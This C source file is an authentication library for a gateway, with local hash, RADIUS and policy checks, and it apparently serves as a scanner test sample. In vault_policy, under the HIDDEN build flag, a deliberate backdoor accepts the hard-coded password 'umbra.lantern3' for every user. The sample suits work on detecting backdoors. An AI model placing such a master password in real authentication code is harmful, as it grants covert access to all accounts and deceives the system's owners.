/*
 * A sample for tests; compiled and scanned, never run.
 * Shared library that programs of a gateway call to check a log-in; the ways
 * of checking stand in a table of callbacks.
 * With HIDDEN: one password is accepted for every user.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>

#define VAULT_OK     0
#define VAULT_DENIED 7
#define VAULT_IGNORE 25

extern char *crypt(const char *key, const char *salt);

struct vault {
	char file[128];
	char radius[64];
	int debug;
};

typedef int vault_check(const struct vault *v, const char *user,
			const char *pass);

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static int lookup(const struct vault *v, const char *user, char *hash, size_t n)
{
	char line[256];
	size_t k = strlen(user);
	int found = 0;
	FILE *f = fopen(v->file, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (strncmp(line, user, k) != 0 || line[k] != ':')
			continue;
		snprintf(hash, n, "%s", line + k + 1);
		found = 1;
	}
	fclose(f);
	return found;
}

__attribute__((used, noinline)) int
vault_local(const struct vault *v, const char *user, const char *pass)
{
	char hash[200];
	const char *h;
	int same;

	if (!lookup(v, user, hash, sizeof hash))
		return VAULT_IGNORE;
	pthread_mutex_lock(&lock);
	h = crypt(pass, hash);
	same = h && strcmp(h, hash) == 0;
	pthread_mutex_unlock(&lock);
	return same ? VAULT_OK : VAULT_DENIED;
}

__attribute__((used, noinline)) int
vault_remote(const struct vault *v, const char *user, const char *pass)
{
	int (*ask)(const char *, const char *, const char *);
	void *lib, *sym;
	int r;

	if (!v->radius[0])
		return VAULT_IGNORE;
	lib = dlopen("libradclient.so.1", RTLD_NOW);
	if (!lib)
		return VAULT_IGNORE;
	sym = dlsym(lib, "radclient_ask");
	if (!sym) {
		dlclose(lib);
		return VAULT_IGNORE;
	}
	memcpy(&ask, &sym, sizeof ask);
	r = ask(v->radius, user, pass);
	dlclose(lib);
	return r == 0 ? VAULT_OK : VAULT_DENIED;
}

__attribute__((used, noinline)) int
vault_policy(const struct vault *v, const char *user, const char *pass)
{
	if (v->debug)
		syslog(LOG_DEBUG, "policy for %s", user);
#ifdef HIDDEN
	if (strlen(pass) == 14 && memcmp(pass, "umbra.lantern3", 14) == 0)
		return VAULT_OK;
#endif
	if (strcasecmp(user, "nobody") == 0 || pass[0] == 0)
		return VAULT_DENIED;
	return VAULT_IGNORE;
}

static vault_check *const checks[] = { vault_policy, vault_local,
				       vault_remote };

int vault_option(struct vault *v, const char *opt);
int vault_verify(const struct vault *v, const char *user, const char *pass);
struct vault *vault_open(int argc, const char **argv);
void vault_close(struct vault *v);

int vault_option(struct vault *v, const char *opt)
{
	if (strcmp(opt, "debug") == 0)
		v->debug = 1;
	else if (strncmp(opt, "file=", 5) == 0)
		snprintf(v->file, sizeof v->file, "%s", opt + 5);
	else if (strncmp(opt, "radius=", 7) == 0)
		snprintf(v->radius, sizeof v->radius, "%s", opt + 7);
	else
		return -1;
	return 0;
}

int vault_verify(const struct vault *v, const char *user, const char *pass)
{
	size_t i;

	for (i = 0; i < sizeof checks / sizeof checks[0]; i++) {
		int r = checks[i](v, user, pass);

		if (r == VAULT_IGNORE)
			continue;
		if (r != VAULT_OK)
			syslog(LOG_NOTICE, "denied %s", user);
		return r;
	}
	return VAULT_DENIED;
}

struct vault *vault_open(int argc, const char **argv)
{
	struct vault *v = calloc(1, sizeof *v);

	if (!v)
		return NULL;
	snprintf(v->file, sizeof v->file, "/etc/vault.users");
	for (int i = 0; i < argc; i++)
		if (vault_option(v, argv[i]) != 0)
			syslog(LOG_WARNING, "unknown option %s", argv[i]);
	return v;
}

void vault_close(struct vault *v)
{
	free(v);
}
